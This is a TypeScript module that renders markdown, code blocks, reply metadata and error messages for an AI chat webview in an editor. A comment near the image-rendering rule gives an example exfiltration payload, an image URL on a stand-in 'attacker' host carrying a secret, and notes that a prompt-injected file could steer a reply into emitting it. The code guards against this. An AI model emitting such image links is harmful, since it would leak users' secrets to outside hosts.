/**
 * Markdown and metadata rendering for the chat webview. Produces HTML strings
 * only (no DOM), so it runs under vitest in Node as well as in the webview.
 *
 * Safety: markdown-it runs with `html: false`, so raw HTML in a reply is
 * escaped, and its link validator drops javascript:, vbscript:, file: and
 * non-image data: URLs. Images load only from data: URLs; others become links.
 * Everything else inserted here goes through escapeHtml.
 */
import MarkdownIt from 'markdown-it';
import { ChatEntry } from '../logic/chatTypes';

const md: MarkdownIt = new MarkdownIt({
  html: false,
  linkify: true,
  breaks: false,
  typographer: false,
});

export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}

/** Language names markdown-it may put in a class: letters, digits, + # . - _ */
export function safeLanguage(info: string): string {
  const lang = info.trim().split(/\s+/)[0] ?? '';
  return /^[\w+#.-]{1,32}$/.test(lang) ? lang : '';
}

/** What renderMarkdown is told: a reply's code blocks get Insert and Apply…; the user's own text only Copy. */
export interface RenderOptions {
  codeActions?: boolean;
}

md.renderer.rules.fence = (tokens, idx, _options, env: RenderOptions | undefined) => {
  const token = tokens[idx];
  const lang = safeLanguage(token.info);
  const langClass = lang ? ` class="language-${escapeHtml(lang)}"` : '';
  const actions = env?.codeActions === false ? '' :
    '<button type="button" class="insert-code" title="Insert at the cursor in the editor">Insert</button>' +
    '<button type="button" class="apply-code" title="Apply to the file: shown as a diff, written only when you accept">Apply…</button>';
  return (
    '<div class="code-block">' +
    '<div class="code-toolbar">' +
    `<span class="code-lang">${escapeHtml(lang || 'text')}</span>` +
    actions +
    '<button type="button" class="copy-code" title="Copy code">Copy</button>' +
    '</div>' +
    `<pre><code${langClass}>${escapeHtml(token.content)}</code></pre>` +
    '</div>\n'
  );
};

// Indented code blocks get the same frame as fenced ones.
md.renderer.rules.code_block = (tokens, idx, options, env, self) =>
  md.renderer.rules.fence!(tokens, idx, options, env, self);

// A reply must not make the editor fetch anything: `![](https://attacker/?d=<secret>)`
// in a reply (easily steered by a prompt-injected file) would otherwise be
// requested the moment it renders. Only data: images render; any other image
// becomes a plain link the user may choose to open. The CSP (logic/html.ts)
// blocks remote images too.
const renderImage = md.renderer.rules.image!;
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet('src') ?? '';
  if (/^data:image\//i.test(src)) {
    return renderImage(tokens, idx, options, env, self);
  }
  const alt = self.renderInlineAsText(token.children ?? [], options, env);
  return `<a href="${escapeHtml(src)}" class="image-link" title="image not loaded: ${escapeHtml(src)}">${escapeHtml(alt ? `image: ${alt}` : src)}</a>`;
};

export function renderMarkdown(text: string, options: RenderOptions = {}): string {
  return md.render(text, { ...options });
}

function formatTokens(usage: ChatEntry['usage']): string | undefined {
  if (!usage || (usage.inputTokens === undefined && usage.outputTokens === undefined)) {
    return undefined;
  }
  return `${usage.inputTokens ?? '?'} in / ${usage.outputTokens ?? '?'} out tokens`;
}

/**
 * The line under a reply: the daemon's footer (model, where a router sent it,
 * tokens, cost, context) or, without one, the model and token counts; and
 * the stop reason when it is not a normal end.
 */
export function metaParts(entry: ChatEntry): string[] {
  if (entry.role !== 'assistant') {
    return [];
  }
  const parts: string[] = [];
  if (entry.streaming) {
    parts.push('streaming…');
  }
  const footer = entry.streaming ? undefined : entry.usage?.footer; // the daemon's line: model, tokens, cost, context
  if (footer) {
    parts.push(footer);
  } else if (entry.model) {
    const shown = entry.modelLabel ?? entry.model; // the daemon's short label; the id otherwise
    parts.push(entry.routedModel && entry.routedModel !== entry.model ? `${shown} → ${entry.routedModel}` : shown);
  }
  switch (entry.stopReason) {
    case 'cancelled':
      parts.push(entry.notice ?? 'stopped');
      break;
    case 'max_tokens':
      parts.push('cut at max tokens');
      break;
    default:
      if (entry.notice) {
        parts.push(entry.notice); // the daemon's words (interrupted)
      }
      break;
  }
  const tokens = footer ? undefined : formatTokens(entry.usage);
  if (tokens) {
    parts.push(tokens);
  }
  return parts;
}

const RETRY_BUTTON = '<button type="button" class="retry" title="Send this message again">Retry</button>';

/** The inline error block of a failed reply; a Retry alone under a saved reply the daemon marked retryable. */
export function renderError(entry: ChatEntry): string {
  if (!entry.error) {
    return entry.retryable ? `<div class="error-actions">${RETRY_BUTTON}</div>` : '';
  }
  const { kind, message, hint } = entry.error;
  let html = '<div class="error-block" role="alert">';
  html += `<div class="error-title">${escapeHtml(errorTitle(kind))}</div>`;
  html += `<div class="error-message">${escapeHtml(message)}</div>`;
  if (hint) {
    html += `<div class="error-hint"><strong>What to do:</strong> ${escapeHtml(hint)}</div>`;
  }
  html += '<div class="error-actions">';
  if (entry.error.retryable) {
    html += RETRY_BUTTON;
  }
  html += '<button type="button" class="secondary" data-command="hermes.runDoctor">Run Doctor</button>';
  html += '<button type="button" class="secondary" data-command="hermes.selectModel">Select Model</button>';
  if (kind === 'server') {
    html += '<button type="button" class="secondary" data-command="hermes.restartServer">Restart Server</button>';
  }
  html += '</div></div>';
  return html;
}

const ERROR_TITLES: Record<string, string> = {
  auth: 'Authentication failed',
  rate_limited: 'Rate limited',
  quota: 'Quota exhausted',
  context_length: 'Conversation too long for the model',
  model_not_found: 'Model not found',
  network: 'Network error',
  timeout: 'Timed out',
  bad_response: 'Unexpected response from the provider',
  plugin_error: 'Provider plugin error',
  config_error: 'Configuration problem',
  spending_limit: 'Spending cap reached',
  server: 'hermesd is not running',
};

export function errorTitle(kind: string): string {
  return ERROR_TITLES[kind] ?? 'Request failed';
}
